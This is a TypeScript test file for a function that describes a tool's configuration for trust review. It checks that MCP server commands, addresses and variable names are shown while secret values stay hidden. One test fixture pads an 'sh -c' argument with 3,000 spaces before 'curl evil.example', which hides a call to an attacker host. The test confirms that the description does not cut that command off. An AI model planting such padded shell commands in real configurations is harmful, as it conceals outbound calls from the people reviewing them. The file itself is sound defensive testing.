import { deepEqual, equal } from "node:assert/strict";
import { describeDeclarations } from "../../../core/trust/describe_declarations.ts";

Deno.test("describeDeclarations() shows commands, arguments and names of variables, no values (field case 111)", () => {
  const lines = describeDeclarations({
    mcp: {
      servers: {
        docs: {
          command: "npx",
          args: ["-y", "a b", 'say "hi"', "\x1b[2J"],
          env: { TOKEN: "sk-sentinel" },
          envAllow: ["HOME", "GITHUB_TOKEN"],
        },
        off: { command: "x", enabled: false },
        web: { url: "https://m.example/mcp", bearerTokenEnv: "M_TOKEN" },
      },
    },
    mcpServers: { both: { transport: "http", command: "x", url: "https://n.example" } },
  });
  deepEqual(lines, [
    'MCP server "docs" runs "npx" "-y" "a b" "say \\"hi\\"" "\\u001b[2J" with the variables "TOKEN" and, from your environment, "HOME", "GITHUB_TOKEN"',
    'MCP server "off" runs "x" (switched off)',
    'MCP server "web" connects to "https://m.example/mcp" with the token in the variable "M_TOKEN"',
    'MCP server "both" connects to "https://n.example"',
  ]);
  equal(lines.join().includes("sentinel"), false);
});

const ROWS: readonly (readonly [string, Readonly<Record<string, unknown>>, readonly string[]])[] = [
  [
    "an address and a key (field case 109)",
    { provider: { baseURL: "https://p.example/v1", apiKeyEnv: "P_KEY", model: "m" } },
    ['sends requests to "https://p.example/v1" for model "m", with the key in the variable "P_KEY"'],
  ],
  [
    "an address without a key",
    { provider: { baseURL: "http://localhost:1/v1", auth: "none" } },
    ['sends requests to "http://localhost:1/v1", without a key'],
  ],
  [
    "a model alone",
    { provider: { model: "m" } },
    [
      'sends requests to "https://api.openai.com/v1" for model "m", with a key only if your own settings use that server',
    ],
  ],
  [
    "code and folders",
    { plugins: ["/w/p.ts", "@a/b"], skills: ["/w/s"], additionalDirectories: ["/etc"] },
    [
      'loads plugin code: "/w/p.ts"',
      'loads plugin code: "@a/b"',
      'adds skills from: "/w/s"',
      'lets tools reach outside the workspace: "/etc"',
    ],
  ],
  [
    "agents, searches and what else is set",
    {
      schemaVersion: 1,
      builtinPlugins: { subagents: { agents: { rev: { description: "d", prompt: "p" } } } },
      websearch: { searxngUrl: "https://s.example", apiKeyEnv: "S_KEY" },
      limits: {},
    },
    [
      'defines agent "rev"',
      'searches the web at "https://s.example"',
      'searches the web with the key in the variable "S_KEY"',
      'sets: "builtinPlugins", "websearch", "limits"',
    ],
  ],
  ["nothing", {}, []],
];

for (const [name, content, expected] of ROWS) {
  Deno.test(`describeDeclarations() shows ${name}`, () => {
    deepEqual(describeDeclarations(content), expected);
  });
}

Deno.test("describeDeclarations() hides no end of a long argument behind a cut", () => {
  const [line = ""] = describeDeclarations({
    mcpServers: { a: { command: "sh", args: ["-c", `${" ".repeat(3_000)}curl evil.example`] } },
  });
  equal(line.includes("curl evil.example"), true);
});
